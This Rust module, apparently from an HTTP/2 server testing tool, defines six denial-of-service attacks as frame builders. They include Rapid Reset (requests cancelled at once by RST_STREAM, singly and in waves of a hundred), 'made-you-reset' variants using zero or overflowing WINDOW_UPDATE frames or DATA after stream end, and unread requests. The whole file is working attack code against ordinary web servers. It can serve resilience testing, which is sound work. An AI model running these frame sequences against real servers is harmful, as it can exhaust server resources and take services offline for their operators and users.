//! Streams that are begun and given up: they cost more to serve than to say.

use super::{Attack, nth};
use crate::cases::Target;
use crate::{Wire, code, data, rst_stream, window_update};

/// How many requests are begun before all of them are given up.
const WAVE: u32 = 100;

/// More than any window can hold (RFC 9113 §6.9.1).
const OVERFLOW: u32 = (1 << 31) - 1;

pub(super) const ATTACKS: [Attack; 6] = [
    Attack::new(
        "rapid-reset",
        "requests, each given up at once by RST_STREAM",
        |target, count| {
            let stream = nth(target, count);
            (target.get(stream).end(), rst_stream(stream, code::CANCEL)).octets()
        },
    ),
    Attack::new(
        "rapid-reset-in-waves",
        "a hundred requests, and then a RST_STREAM for each, again and again",
        |target, wave| {
            let streams = || (0..WAVE).map(|one| nth(target, wave * WAVE + one));
            let asked: Vec<_> = streams().map(|stream| target.get(stream).end()).collect();
            let resets: Vec<_> = streams()
                .map(|stream| rst_stream(stream, code::CANCEL))
                .collect();
            (asked, resets).octets()
        },
    ),
    Attack::new(
        "made-you-reset-by-increment",
        "requests, each with a WINDOW_UPDATE of 0, which makes the server reset the stream",
        |target, count| made_to_reset(target, count, 0),
    ),
    Attack::new(
        "made-you-reset-by-overflow",
        "requests, each with a WINDOW_UPDATE that no window can hold",
        |target, count| made_to_reset(target, count, OVERFLOW),
    ),
    Attack::new(
        "made-you-reset-by-data",
        "requests, each with DATA behind its end",
        |target, count| {
            let stream = nth(target, count);
            (target.get(stream).end(), data(stream, "x")).octets()
        },
    ),
    Attack::new(
        "requests-unread",
        "requests without end, whose answers nobody reads",
        |target, count| target.get(nth(target, count)).end().octets(),
    )
    .unread(),
];

fn made_to_reset(target: &Target, count: u32, increment: u32) -> Vec<u8> {
    let stream = nth(target, count);
    (target.get(stream).end(), window_update(stream, increment)).octets()
}
